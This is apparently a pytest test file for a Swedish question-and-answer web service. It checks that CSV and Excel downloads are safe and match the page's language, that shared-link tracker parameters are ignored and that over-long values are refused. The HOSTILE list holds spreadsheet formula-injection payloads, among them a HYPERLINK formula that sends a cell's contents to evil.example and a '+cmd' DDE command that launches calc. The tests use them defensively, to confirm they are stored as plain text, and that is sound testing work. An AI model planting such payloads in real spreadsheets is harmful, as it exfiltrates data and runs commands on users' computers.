"""A download from a question page holds what the page shows, in the page's language, and
is safe to open: every value a text cell (never a formula), every character one XML can hold
(never a 500); and the page itself takes shared links (trackers), refuses absurd lengths and
names what it shows (outcomes, vocabulary terms) in words."""

import csv
import html
import io
import re
import zipfile

import pytest
from openpyxl import load_workbook
from rdflib import Literal

from hsvo_graph.canned.catalog import MAX_VALUE_LENGTH, load_catalog
from hsvo_graph.canned.tables import sheet_name, to_xlsx
from hsvo_graph.sparql.reader import Table

HTML = {"Accept": "text/html"}
ONTOLOGY = "https://w3id.org/hsvo-graph/ontology#"


def _xlsx(client, path: str):
    response = client.get(path)
    assert response.status_code == 200, response.text[:300]
    return response.content, load_workbook(io.BytesIO(response.content))


def _csv(client, path: str, lang: str) -> list[dict[str, str]]:
    text = client.get(path).content.decode("utf-8").lstrip("\ufeff")
    return list(csv.DictReader(io.StringIO(text), delimiter=";" if lang == "sv" else ","))


def _page_table(client, path: str) -> tuple[list[str], list[list[str]]]:
    """The headings and the cells' visible text of a question page's answer."""
    page = client.get(path, headers=HTML).text
    table = page.split('<table id="results"')[1].split("</table>")[0]
    headings = [html.unescape(h) for h in re.findall(r'<th scope="col">(.*?)</th>', table)]
    rows = [[" ".join(html.unescape(re.sub(r"<[^>]+>", "", cell)).split()).lstrip("✓◐○✕ ")
             for cell in re.findall(r"<td[^>]*>(.*?)</td>", row, re.S)]
            for row in re.findall(r"<tr>(.*?)</tr>", table.split("<tbody>")[1], re.S)]
    return headings, rows


# -- D1, D2: safe cells in every sheet ------------------------------------------------

HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1,"Klicka")', "=1+1", "+cmd|' /C calc'!A0",
           "-2+3", "@SUM(1)"]


@pytest.mark.parametrize("value", HOSTILE)
def test_values_asked_for_are_text_cells_on_the_about_sheet_never_formulas(client, value):
    for path, params in (("/q/search", {"text": value}),
                         ("/q/activities_by_body_and_area", {"body": value, "area": "vård"})):
        response = client.get(path, params={**params, "format": "xlsx", "lang": "sv"})
        assert response.status_code == 200
        with zipfile.ZipFile(io.BytesIO(response.content)) as archive:
            sheets = [n for n in archive.namelist() if n.startswith("xl/worksheets/sheet")]
            assert len(sheets) == 2 and not any(b"<f>" in archive.read(n) for n in sheets)
        about = load_workbook(io.BytesIO(response.content)).worksheets[1]
        cells = [c for row in about.iter_rows() for c in row if c.value == value]
        assert cells and all(c.data_type == "s" for c in cells)


@pytest.mark.parametrize("character", ["%0B", "%00", "%1B", "%EF%BF%BF"])
def test_characters_xml_cannot_hold_become_a_replacement_character_not_a_500(client, character):
    for lang in ("sv", "en"):
        content, book = _xlsx(client, f"/q/search?text=rad1{character}rad2&format=xlsx&lang={lang}")
        values = [v for row in book.worksheets[1].iter_rows(values_only=True) for v in row]
        assert "rad1\ufffdrad2" in values


def test_data_cells_with_characters_xml_cannot_hold_are_written_too():
    table = Table(["title"], [{"title": Literal("a\x0bb\x00c\uffffd")}], False)
    sheet = load_workbook(io.BytesIO(to_xlsx(table, about=[("Fråga", "x\x1by")]))).worksheets
    assert sheet[0].cell(row=2, column=1).value == "a\ufffdb\ufffdc\ufffdd"
    assert sheet[1].cell(row=1, column=2).value == "x\ufffdy"


# -- D3, D4, D5: what the page shows, in its language ----------------------------------

def _examples(settings) -> list[tuple[str, dict[str, str]]]:
    return [(q.id, {p.name: p.example for p in q.parameters if p.example})
            for q in load_catalog(settings.queries_dir).values()]


@pytest.mark.parametrize("lang", ["sv", "en"])
def test_every_download_has_the_pages_words_under_distinct_headings_in_its_language(client, settings, lang):
    for query_id, params in _examples(settings):
        query = "&".join(f"{k}={v}" for k, v in params.items())
        headings, rows = _page_table(client, f"/q/{query_id}?{query}&lang={lang}")
        exported = _csv(client, f"/q/{query_id}?{query}&format=csv&lang={lang}", lang)
        columns = list(exported[0]) if exported else []
        assert len(set(columns)) == len(columns), (query_id, columns)
        variables = set(re.findall(r"\?(\w+)", (settings.queries_dir / f"{query_id}.rq").read_text()))
        assert not set(columns) & variables, (query_id, columns)
        assert [c for c in columns if c in headings] == headings, query_id
        for heading_index, heading in enumerate(headings):
            shown = [row[heading_index] for row in rows]
            assert [r[heading] for r in exported] == shown, (query_id, heading)
        words = [v for r in exported for c, v in r.items() if not c.endswith(("(länk)", "(link)"))]
        assert not [v for v in words if ONTOLOGY in v or v in ("true", "false")], query_id


STATUS = {"sv": {"pågår", "genomförd", "stoppad eller avskriven", "ej påbörjad", ""},
          "en": {"ongoing", "completed", "stopped or written off", "not started", ""}}
CHANGES = {"sv": {"fortsätter", "fortsätter med ny formulering", "utgår", "ny"},
           "en": {"continues", "continues, reworded", "ends", "new"}}


@pytest.mark.parametrize("lang", ["sv", "en"])
def test_changes_statuses_roles_and_powers_are_words_of_the_language(client, lang):
    changes = _csv(client, f"/q/activity_list_changes?year=2024&format=csv&lang={lang}", lang)
    change, status = ("Förändring", "Status första året") if lang == "sv" else (
        "Change", "Status in the first year")
    assert {r[change] for r in changes} == CHANGES[lang]
    assert {r[status] for r in changes} <= STATUS[lang] and len({r[status] for r in changes}) > 2
    _, book = _xlsx(client, f"/q/activity_list_changes?year=2024&format=xlsx&lang={lang}")
    rows = list(book.worksheets[0].iter_rows(values_only=True))
    assert {row[rows[0].index(change)] for row in rows[1:]} == CHANGES[lang]

    recurring = _csv(client, f"/q/recurring_activities?year=2024&body=%C3%84LN&format=csv&lang={lang}", lang)
    assert {r[status] for r in recurring} <= STATUS[lang] and {r[status] for r in recurring} - {""}
    same = "Samma titel" if lang == "sv" else "Same title"
    assert {r[same] for r in recurring} == ({"ja", "nej"} if lang == "sv" else {"yes", "no"})
    headings, rows = _page_table(client, f"/q/recurring_activities?year=2024&body=%C3%84LN&lang={lang}")
    assert {row[headings.index(same)] for row in rows} == {r[same] for r in recurring}

    involvement = _csv(client, f"/q/body_involvement_by_year?body=SCN&format=csv&lang={lang}", lang)
    role = "Roll i aktiviteten" if lang == "sv" else "Role in the activity"
    assert {r[role] for r in involvement} == ({"ansvar", "delaktig"} if lang == "sv" else
                                              {"responsible body", "participating body"})

    _, book = _xlsx(client, f"/q/bodies_and_mandates?body=Samr%C3%A5d+HSVO&format=xlsx&lang={lang}")
    rows = list(book.worksheets[0].iter_rows(values_only=True))
    power = rows[0].index("Befogenhet" if lang == "sv" else "Power")
    assert ("beslutande" if lang == "sv" else "decision-making") in {row[power] for row in rows[1:]}
    assert ("decision-making" if lang == "sv" else "beslutande") not in {row[power] for row in rows[1:]}
    links = [h for h in rows[0] if h.endswith(("(länk)", "(link)"))]
    assert len(links) == 3 and str(rows[1][rows[0].index(links[0])]).startswith("https://")


def test_english_pages_show_no_swedish_change_or_status_words(client):
    for path in ("/q/activity_list_changes?year=2024&lang=en",
                 "/q/recurring_activities?year=2024&body=%C3%84LN&lang=en"):
        headings, rows = _page_table(client, path)
        column = headings.index("Change" if "changes" in path else "Status in the first year")
        assert {row[column] for row in rows} <= CHANGES["en"] | STATUS["en"]


# -- D6: sheet names ------------------------------------------------------------------

def test_sheet_names_are_in_the_page_language_and_cut_at_a_word():
    assert sheet_name("Namnbyten av organ och roller över tid") == "Namnbyten av organ och roller…"
    assert sheet_name("Changes between two years' activity lists") == "Changes between two years…"
    assert sheet_name("Kort") == "Kort" and len(sheet_name("x" * 40)) == 31


def test_the_english_workbook_has_english_sheet_names(client):
    _, book = _xlsx(client, "/q/activity_list_changes?year=2024&format=xlsx&lang=en")
    assert book.sheetnames == ["Changes between two years…", "About the question"]
    _, book = _xlsx(client, "/q/activity_list_changes?year=2024&format=xlsx&lang=sv")
    assert book.sheetnames[1] == "Om frågan"


# -- R1, R12: shared links and long values ----------------------------------------------

def test_link_trackers_are_ignored_and_a_typo_is_still_refused(client):
    plain = client.get("/q/search", params={"text": "aldre", "format": "json"}).json()
    tracked = client.get("/q/search", params={
        "text": "aldre", "format": "json", "fbclid": "abc", "utm_source": "nyhetsbrev",
        "utm_medium": "e-post", "gclid": "x", "msclkid": "y", "mc_cid": "1", "mc_eid": "2"})
    assert tracked.status_code == 200 and tracked.json()["rows"] == plain["rows"]
    page = client.get("/q/search?text=aldre&fbclid=abc&lang=sv", headers=HTML)
    assert page.status_code == 200 and "Frågan har inga fält" not in page.text
    typo = client.get("/q/stopped_activities?yeer=2024&lang=sv", headers=HTML)
    assert typo.status_code == 400 and "Frågan har inga fält som heter yeer." in typo.text


@pytest.mark.parametrize(("lang", "says"), [("sv", "Sökord: skriv högst 500 tecken (nu 501)."),
                                            ("en", "Search words: write at most 500 characters (now 501).")])
def test_a_value_longer_than_the_limit_is_refused_in_the_page_language(client, lang, says):
    long = "ä" * (MAX_VALUE_LENGTH + 1)
    page = client.get("/q/search", params={"text": long, "lang": lang}, headers=HTML)
    assert page.status_code == 400 and says in page.text
    assert client.get("/q/search", params={"text": long, "format": "json"}).status_code == 400
    assert client.get("/q/search", params={"text": "ä" * MAX_VALUE_LENGTH, "format": "json"}).status_code == 200


# -- R9, R10: names on resource pages, the summary in the page language -----------------

def test_resource_pages_name_properties_and_outcomes_in_words(client):
    for lang, outcome in (("sv", "utfall för "), ("en", "outcome of ")):
        activity = client.get(f"/id/activity/uppsala-2024-22?lang={lang}", headers=HTML).text
        assert "dct:relation" not in activity and "-utfall</a>" not in activity
        assert outcome in activity
        document = client.get(f"/id/document/vard-i-samverkan?lang={lang}", headers=HTML).text
        assert "dct:references" not in document.lower()
    goal = client.get("/id/goal/alvkarleby-2024-2026-malbild?lang=sv", headers=HTML).text
    assert "skos:editorialNote" not in goal and "redaktionell anmärkning" in goal


def test_the_swedish_ontology_page_names_reused_terms_in_swedish(client):
    page = client.get("/ontology?lang=sv", headers=HTML).text
    assert not re.search(r">(Document|Concept|Role|identifier)<", page)


def test_the_english_stopped_activities_page_leads_with_the_english_summary(client):
    headings, rows = _page_table(client, "/q/stopped_activities?year=2024&lang=en")
    why = headings.index("Why (summary)")
    assert why < headings.index("Summary in Swedish")
    assert rows[0][why].startswith("Stopped")
    headings, rows = _page_table(client, "/q/stopped_activities?year=2024&lang=sv")
    assert rows[0][headings.index("Varför (sammanfattning)")].startswith("Stoppad")
